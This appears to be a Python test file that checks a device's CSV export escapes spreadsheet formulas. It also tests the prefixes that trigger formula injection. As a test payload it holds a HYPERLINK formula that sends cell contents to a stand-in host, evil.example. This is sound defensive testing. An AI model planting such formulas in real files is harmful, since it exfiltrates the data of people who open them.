"""Formula escaping: a formula in every text column of the device's CSV export reaches the file as text."""

from __future__ import annotations

import csv
import sqlite3
from pathlib import Path

import pytest
from sqlalchemy import String
from sqlalchemy.engine import Engine
from sqlmodel.sql.sqltypes import AutoString

from db import export
from db.models import Event, Signature
from db.spreadsheet import formula_safe
from tests.utils.factories import save

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"open")'


def _text_columns(table: object) -> list[str]:
    return [c.name for c in table.__table__.columns  # type: ignore[attr-defined]
            if isinstance(c.type, String | AutoString)]


def test_every_text_cell_of_the_device_export_is_escaped(engine: Engine, data_dir: Path) -> None:
    saved = save(engine)
    columns = [c for c in _text_columns(Signature) if c in export.SIGNATURE_COLUMNS and c != "id"]
    event_columns = [c for c in _text_columns(Event) if c != "id"]
    # The saved row is immutable by design (a trigger): a tampered database file is what this test imitates.
    with sqlite3.connect(str(engine.url.database)) as con:
        con.execute("DROP TRIGGER signature_immutable")
        con.execute("INSERT INTO event (id, name, place, date, created_at) VALUES (?, ?, ?, '2026-01-01', '2026-01-01')",
                    (FORMULA, FORMULA, FORMULA))
        con.execute(f"UPDATE signature SET {', '.join(f'{c} = ?' for c in columns)} WHERE id = ?",
                    (*[FORMULA] * len(columns), saved.id))
    target = data_dir / "export.csv"
    export.export_csv(target, engine=engine, device_id=FORMULA, device_name=FORMULA)
    with target.open(encoding="utf-8-sig", newline="") as fh:
        [row] = list(csv.DictReader(fh))
    expected = {*columns, "device_id", "device_name", *(f"event_{c}" for c in event_columns)}
    assert expected >= {"given_name", "email", "comment", "device_name", "event_name", "event_place", "locale"}
    assert {name: row[name] for name in expected} == {name: "'" + FORMULA for name in expected}


@pytest.mark.parametrize("value", ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\uff1d1+1", "+", "-"])
def test_a_formula_gets_an_apostrophe(value: str) -> None:
    assert formula_safe(value) == "'" + value


@pytest.mark.parametrize("value", ["+49 30 1234567", "-5", "Ada", "", "a=b", None, 3, True])
def test_text_and_signed_numbers_pass(value: object) -> None:
    assert formula_safe(value) == value
